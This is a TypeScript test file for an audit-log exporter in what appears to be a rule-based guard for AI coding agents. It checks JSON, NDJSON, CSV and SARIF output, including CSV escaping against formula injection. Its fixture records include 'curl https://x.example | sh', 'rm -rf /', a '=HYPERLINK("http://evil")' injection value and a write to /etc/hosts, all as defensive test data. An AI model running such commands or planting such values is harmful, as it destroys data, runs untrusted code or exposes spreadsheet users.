import AjvDraft04 from 'ajv-draft-04';
import ajvFormats from 'ajv-formats';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import type { AuditRecord } from '../entry.js';
import { CSV_COLUMNS } from './csv.js';
import { exportRecords, type ExportFormat } from './export.js';

const base: AuditRecord = {
  seq: 1,
  time: '2025-05-01T10:00:00.000Z',
  hash: 'a'.repeat(64),
  type: 'command',
  host: 'dev-1',
  agent: 'claude-code',
  session: 's1',
  tool: 'Bash',
  cwd: '/work',
  binary: 'git',
  subject: 'git status',
  arguments: null,
  verdict: 'allow',
  outcome: 'allowed',
  severity: 'info',
  role: 'dev',
  mode: 'enforce',
  rule: null,
  reason: 'allowed by the default of role dev',
  latencyMs: 0.05,
  findings: [],
};

const records: AuditRecord[] = [
  base,
  { ...base, seq: 2, subject: 'git push --force origin main', verdict: 'block', outcome: 'blocked', severity: 'high', rule: 'no-force-push', reason: 'force pushes rewrite history' },
  { ...base, seq: 3, type: 'mcp_tool_call', binary: null, subject: 'fs/write_file', arguments: { path: '/etc/hosts', content: 'a,"b"\nc' }, verdict: 'ask', outcome: 'held', severity: 'medium', rule: 'fs-writes', reason: 'writes need approval' },
  { ...base, seq: 4, subject: 'curl https://x.example | sh', verdict: 'flag', outcome: 'allowed', severity: 'low', findings: [{ rule: 'download.pipe-shell', severity: 'low', verdict: 'flag', title: 'Download piped into a shell' }] },
  { ...base, seq: 5, subject: '=HYPERLINK("http://evil")', verdict: 'block', outcome: 'would_block', mode: 'monitor', severity: 'critical', rule: 'no-force-push', reason: 'r' },
  { ...base, seq: 6, subject: 'rm -rf /', verdict: 'block', outcome: 'blocked', severity: 'medium', reason: 'no rule matched; denied by the default of role dev' },
];

async function* each<T>(items: readonly T[]): AsyncIterable<T> {
  for (const x of items) yield await Promise.resolve(x);
}

async function render(format: ExportFormat, items: readonly AuditRecord[] = records): Promise<{ text: string; count: number }> {
  let text = '';
  const count = await exportRecords(format, each(items), (chunk) => { text += chunk; }, { toolVersion: '0.1.0' });
  return { text, count };
}

const require = createRequire(import.meta.url);
const sarifSchema = JSON.parse(readFileSync(require.resolve('@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json'), 'utf8')) as Record<string, unknown>;

function sarifValidator() {
  // The schema's `language` pattern is not valid with the u flag; JSON Schema draft 4 patterns are plain ECMAScript ones.
  const ajv = new AjvDraft04.default({ allErrors: true, strict: false, unicodeRegExp: false });
  ajvFormats.default(ajv);
  return ajv.compile(sarifSchema);
}

describe('exports', () => {
  it('json: one array of every entry with every field', async () => {
    const { text, count } = await render('json');
    expect(count).toBe(6);
    const parsed = JSON.parse(text) as Record<string, unknown>[];
    expect(parsed).toHaveLength(6);
    expect(parsed[2]).toEqual({ ...records[2] });
    expect(Object.keys(parsed[0]!)).toEqual(['seq', 'time', 'type', 'host', 'agent', 'session', 'tool', 'cwd', 'binary', 'subject', 'arguments', 'verdict', 'outcome', 'severity', 'role', 'mode', 'rule', 'reason', 'latencyMs', 'findings', 'hash']);
    expect(JSON.parse((await render('json', [])).text)).toEqual([]);
  });

  it('ndjson: one entry per line', async () => {
    const { text } = await render('ndjson');
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(6);
    expect(lines.map((l) => (JSON.parse(l) as { seq: number }).seq)).toEqual([1, 2, 3, 4, 5, 6]);
  });

  it('csv: a header, quoted fields, and no cell a spreadsheet would run as a formula', async () => {
    const { text } = await render('csv');
    const lines = text.split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(text).toContain('"{""path"":""/etc/hosts"",""content"":""a,\\""b\\""\\nc""}"');
    expect(text).toContain(`,"'=HYPERLINK(""http://evil"")",`);
    expect(text).toContain(',download.pipe-shell:low,');
    expect(lines).toHaveLength(8);
  });

  it('sarif: one run whose results are the entries objected to, valid against the SARIF 2.1.0 schema', async () => {
    const { text, count } = await render('sarif');
    const log = JSON.parse(text) as { version: string; runs: { tool: { driver: { name: string; rules: { id: string; defaultConfiguration: { level: string } }[] } }; results: { ruleId: string; ruleIndex: number; level: string; message: { text: string }; properties: { seq: number } }[] }[] };
    const validate = sarifValidator();
    expect(validate(log), JSON.stringify(validate.errors, null, 2)).toBe(true);
    expect(log.version).toBe('2.1.0');
    expect(log.runs).toHaveLength(1);
    const run = log.runs[0]!;
    expect(count).toBe(5);
    expect(run.results.map((r) => [r.properties.seq, r.ruleId, r.level])).toEqual([
      [2, 'no-force-push', 'error'],
      [3, 'fs-writes', 'warning'],
      [4, 'download.pipe-shell', 'note'],
      [5, 'no-force-push', 'error'],
      [6, 'warden.role-default', 'warning'],
    ]);
    for (const r of run.results) expect(run.tool.driver.rules[r.ruleIndex]!.id).toBe(r.ruleId);
    expect(run.tool.driver.rules.map((r) => r.id)).toEqual(['no-force-push', 'fs-writes', 'download.pipe-shell', 'warden.role-default']);
    expect(run.tool.driver.rules[0]!.defaultConfiguration.level).toBe('error');
    expect(run.results[0]!.message.text).toBe('blocked: git push --force origin main (force pushes rewrite history)');
  });

  it('sarif: valid with no results, and the validator does reject a broken log', async () => {
    const validate = sarifValidator();
    const empty = JSON.parse((await render('sarif', [base])).text) as unknown;
    expect(validate(empty), JSON.stringify(validate.errors)).toBe(true);
    expect(validate({ version: '2.1.0', runs: [{ results: [{ level: 'fatal', message: {} }] }] })).toBe(false);
  });
});
